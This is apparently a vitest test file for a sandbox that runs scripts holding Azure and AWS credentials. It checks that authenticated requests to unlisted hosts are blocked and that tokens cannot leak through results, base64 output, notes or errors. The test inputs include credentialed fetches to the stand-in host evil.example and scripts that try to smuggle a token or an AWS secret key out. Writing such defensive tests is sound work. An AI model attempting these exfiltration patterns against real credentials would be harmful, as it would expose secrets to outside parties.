import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { expectEnd, told, toldProse } from '../push-image/told.ts'
import { openScriptDoor, type ScriptDoor } from './script-door.ts'

let door: ScriptDoor
beforeAll(async () => (door = await openScriptDoor()))
beforeEach(() => {
  door.recorder.fresh()
  door.recorder.answer()
  door.requests()
})
afterAll(async () => await door[Symbol.asyncDispose]())

describe('no credential leaves for where it does not belong', () => {
  test.each([
    ['a host that is not on the table', `azure.fetch('https://evil.example/')`, 'evil.example'],
    ['a host that only ends alike', `azure.fetch('https://evil-vault.azure.net/')`, 'evil-vault.azure.net'],
    ['the suffix itself', `azure.fetch('https://vault.azure.net/')`, 'vault.azure.net'],
    [
      'another host, by the name of a resource of the table',
      `azure.fetch('https://evil.example/', { resource: 'https://management.azure.com/' })`,
      'evil.example',
    ],
    ['plain http', `azure.fetch('http://management.azure.com/')`, 'management.azure.com'],
    ['a host that is none of AWS', `aws.fetch('ecs', { url: 'https://evil.example/' })`, 'evil.example'],
    ['another port', `azure.fetch('https://management.azure.com:8443/')`, 'management.azure.com:8443'],
  ])('%s', async (_, call, host) => {
    const outcome = await door.script(`await ${call}`)
    expectEnd(outcome, 'SCRIPT_HOST_UNKNOWN', 77)
    expect(toldProse(outcome.step.stderr, 'what')).toContain(host)
    expect(door.recorder.fresh()).toEqual([])
  })

  test('a redirect: it is given to the script as it is, and the other host is not asked', async () => {
    door.recorder.answer({ status: 302, headers: { location: 'https://evil.example/take' } })
    const { step, results } = await door.script(`
      const answer = await azure.fetch('https://management.azure.com/moved')
      result.set('json', JSON.stringify([answer.status, answer.headers.get('location')]))`)
    expect(step.status, step.stderr).toBe(0)
    expect(results['json']).toBe('[302,"https://evil.example/take"]')
    expect(door.recorder.fresh().map(({ url }) => url)).toEqual(['https://management.azure.com/moved'])
  })

  test('a long-running operation whose address leads elsewhere', async () => {
    door.recorder.answer({ status: 202, headers: { location: 'https://evil.example/poll', 'retry-after': '0' } })
    const outcome = await door.script(
      `await azure.poll(await azure.fetch('https://management.azure.com/start', { method: 'POST' }))`,
    )
    expectEnd(outcome, 'SCRIPT_HOST_UNKNOWN', 77)
    expect(door.recorder.fresh()).toHaveLength(1)
  })

  test('a script may catch it and go on', async () => {
    const { step, results } = await door.script(`
      try { await azure.fetch('https://evil.example/') } catch (error) { result.set('value', (error as { code: string }).code) }`)
    expect(step.status, step.stderr).toBe(0)
    expect(results['value']).toBe('SCRIPT_HOST_UNKNOWN')
  })
})

describe('a credential is not given on', () => {
  const token = `const token = await azure.token('https://graph.microsoft.com')\n`
  test.each([
    ['by a result', `result.set('value', 'x' + token)`, 'the result value'],
    ['by a result in base64', `result.set('json', JSON.stringify({ a: btoa(token) }))`, 'the result json'],
    ['by a note', `record.note(token.slice(0, 0) + (await aws.credentials()).secretAccessKey)`, 'the record'],
  ])('%s: the script is ended there', async (_, call, place) => {
    const outcome = await door.script(`${token}${call}\nfor (;;) {}`)
    expectEnd(outcome, 'SCRIPT_SECRET_SHOWN', 77)
    expect(toldProse(outcome.step.stderr, 'what')).toContain(place)
  })

  test('by an error: it is masked', async () => {
    const outcome = await door.script(`${token}throw new Error('cannot use ' + token)`)
    expectEnd(outcome, 'SCRIPT_FAILED', 70)
    expect(toldProse(outcome.step.stderr, 'what')).toContain('cannot use [secret]')
  })
})

describe('says the script’s own line', () => {
  test.each([
    ['no TypeScript', '\n\nconst a: number = ;', 'SCRIPT_INVALID', 64, 'script.ts:3'],
    ['types that would have to be translated', '\nenum A { B }', 'SCRIPT_INVALID', 64, 'script.ts:2'],
    [
      'no module',
      `import { join } from 'node:path'\nlet x = join('a')\nlet x = 2`,
      'SCRIPT_INVALID',
      64,
      'script.ts:3',
    ],
    ['a package', `import chalk from 'chalk'`, 'SCRIPT_INVALID', 64, 'node:fs'],
    [
      'a throw',
      `type A = string\nconst f = (): A => {\n  throw new TypeError('no')\n}\nf()`,
      'SCRIPT_FAILED',
      70,
      'script.ts:3:9: TypeError: no',
    ],
    [
      'a rejection',
      `\nsetTimeout(async () => {\n  throw new Error('late')\n})`,
      'SCRIPT_FAILED',
      70,
      'script.ts:3:9: Error: late',
    ],
    ['a result that is not declared', `\nresult.set('other', 'x')`, 'SCRIPT_FAILED', 70, 'script.ts:2'],
    [
      'a method of no use',
      `\nawait fetch('https://evil.example/', { method: 'OPTIONS' })`,
      'SCRIPT_FAILED',
      70,
      'script.ts:2',
    ],
    ['no text', `result.set('value', 5)`, 'SCRIPT_FAILED', 70, 'a text is wanted here, not number'],
  ] as const)('%s', async (_, script, code, exit, text) => {
    const outcome = await door.script(script)
    expectEnd(outcome, code, exit)
    expect(toldProse(outcome.step.stderr, 'what') + toldProse(outcome.step.stderr, 'remedy')).toContain(text)
    expect(door.recorder.fresh()).toEqual([])
  })
})

describe('an end that is none', () => {
  test.each([
    ['an exit status of its own', `process.exit(3)`, 'its exit status is 3'],
    ['one that it has left behind', `process.exitCode = 4`, 'its exit status is 4'],
    ['something that never comes', `await new Promise(() => {})`, 'its exit status is 13'],
    ['a signal', `process.kill(process.pid, 'SIGKILL')`, 'it was ended by SIGKILL'],
  ])('%s', async (_, script, how) => {
    const outcome = await door.script(script)
    expectEnd(outcome, 'SCRIPT_EXITED', 70)
    expect(toldProse(outcome.step.stderr, 'what')).toContain(how)
  })

  test('process.exit(0) is a good one, and keeps the results', async () => {
    const { step, results } = await door.script(`result.set('id', '7')\nprocess.exit(0)`)
    expect(step.status, step.stderr).toBe(0)
    expect(results['id']).toBe('7')
  })

  test('a script that never ends is ended by the deadline', async () => {
    const outcome = await door.script(`console.log('round'); for (;;) {}`, { params: { timeout: '5s' } })
    expectEnd(outcome, 'DEADLINE_EXCEEDED', 75)
    expect(told(outcome.step.stderr, 'script')).toContain('round')
  })

  test('results that are too long', async () => {
    expectEnd(await door.script(`result.set('value', 'x'.repeat(2000))`), 'RESULT_NOT_WRITTEN', 74)
  })
})
